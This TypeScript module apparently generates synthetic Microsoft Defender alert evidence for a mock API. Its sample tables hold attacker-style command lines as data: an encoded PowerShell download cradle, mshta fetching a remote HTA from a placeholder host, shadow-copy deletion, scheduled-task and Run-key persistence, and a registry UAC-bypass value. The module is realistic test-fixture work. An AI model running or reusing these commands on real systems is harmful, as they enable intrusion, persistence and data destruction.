// Evidence entries: every one of the 25 keys present, the ones an entity type does not use
// set to null, exactly as `$expand=evidence` returns them.

import type { EntityType } from "./catalog.ts";
import type { Random } from "./prng.ts";
import { formatInstant, shapeTicks } from "./timestamps.ts";
import { EVIDENCE_KEYS, type Evidence } from "./types.ts";

export interface EvidenceContext {
  random: Random;
  /** Alert creation instant (ticks); evidence is recorded a moment after it. */
  createdTicks: bigint;
  user: { accountName: string; domainName: string; userSid: string; aadUserId: string;
    userPrincipalName: string };
}

const SECOND = 10_000_000n;

const PROCESSES = [
  ["powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand " +
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"],
  ["rundll32.exe", "C:\\Windows\\SysWOW64", "rundll32.exe  c:\\temp\\update.dll,Start"],
  ["cmd.exe", "C:\\Windows\\System32", "cmd.exe /c \"whoami /all & net group \"Domain Admins\"\""],
  ["wmic.exe", "C:\\Windows\\System32\\wbem", "wmic.exe shadowcopy delete /nointeractive"],
  ["schtasks.exe", "C:\\Windows\\System32",
    "schtasks.exe /create /sc minute /mo 30 /tn \"OneDrive Sync\" /tr C:\\Users\\Public\\s.exe"],
  ["mshta.exe", "C:\\Windows\\System32", "mshta.exe https://cdn-update.example.net/a.hta"],
] as const;
const PARENTS = [
  ["explorer.exe", "C:\\Windows"],
  ["WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16"],
  ["services.exe", "C:\\Windows\\System32"],
  ["svchost.exe", "C:\\Windows\\System32"],
] as const;
const FILES = [
  ["invoice_0423.docm", "C:\\Users\\Public\\Downloads"],
  ["update.dll", "c:\\temp"],
  ["s.exe", "C:\\Users\\Public"],
  ["SB.xsl", "C:\\Windows\\Temp\\sb-sim-temp"],
  ["README_RESTORE.txt", "D:\\Shares\\Finance"],
] as const;
const URLS = ["https://cdn-update.example.net/a.hta", "http://198.51.100.23:8080/gate.php",
  "https://login-office365.example.org/auth"];
const REGISTRY = [
  ["HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "HKEY_LOCAL_MACHINE",
    "String", "C:\\Users\\Public\\s.exe"],
  ["HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\Shell\\Open\\command",
    "HKEY_CURRENT_USER", "ExpandString", "%COMSPEC% /c start payload.exe"],
] as const;

// Assumption: entity types beyond the samples' User/Process/File (Ip, Url, Registry, named in
// alerts.md) and detectionStatus values beyond `Detected` (Blocked, Prevented) look like this.

/** An entry with all 25 keys set to null, in Defender's key order. */
export function emptyEvidence(): Evidence {
  const entry: Record<string, null> = {};
  for (const key of EVIDENCE_KEYS) entry[key] = null;
  return entry as unknown as Evidence;
}

function stamp(ctx: EvidenceContext, offsetSeconds: number, shape: "precise" | "sql"): string {
  const ticks = ctx.createdTicks + BigInt(offsetSeconds) * SECOND;
  return formatInstant(shapeTicks(ticks, shape, ctx.random.next()));
}

/** One evidence entry of `type`, values drawn from `ctx.random`. */
export function generateEvidence(ctx: EvidenceContext, type: EntityType): Evidence {
  const { random } = ctx;
  const entry = emptyEvidence();
  entry.entityType = type;
  entry.evidenceCreationTime = stamp(ctx, random.int(1, 3), "sql");

  switch (type) {
    case "User":
      Object.assign(entry, ctx.user);
      break;
    case "Process": {
      const [fileName, filePath, commandLine] = random.pick(PROCESSES);
      const [parentName, parentPath] = random.pick(PARENTS);
      Object.assign(entry, { sha1: random.hex(40), sha256: random.hex(64), fileName, filePath,
        processId: random.int(400, 40000), processCommandLine: commandLine,
        processCreationTime: stamp(ctx, -random.int(60, 200), "precise"),
        parentProcessId: random.int(4, 20000),
        parentProcessCreationTime: stamp(ctx, -random.int(300, 90000), "precise"),
        parentProcessFileName: parentName, parentProcessFilePath: parentPath,
        accountName: ctx.user.accountName, domainName: ctx.user.domainName,
        userSid: ctx.user.userSid, detectionStatus: random.pick(["Detected", "Blocked", null]) });
      break;
    }
    case "File": {
      const [fileName, filePath] = random.pick(FILES);
      Object.assign(entry, { sha1: random.hex(40), sha256: random.hex(64), fileName, filePath,
        detectionStatus: random.pick(["Detected", "Prevented", "Blocked"]) });
      break;
    }
    case "Ip":
      entry.ipAddress = random.chance(0.8)
        ? `${random.pick([198, 203, 192])}.${random.int(0, 255)}.${random.int(0, 255)}.` +
          `${random.int(1, 254)}`
        : `2001:db8:${random.hex(4)}::${random.hex(2)}`;
      break;
    case "Url":
      entry.url = random.pick(URLS);
      break;
    case "Registry": {
      const [registryKey, registryHive, registryValueType, registryValue] = random.pick(REGISTRY);
      Object.assign(entry, { registryKey, registryHive, registryValueType, registryValue });
      break;
    }
  }
  return entry;
}
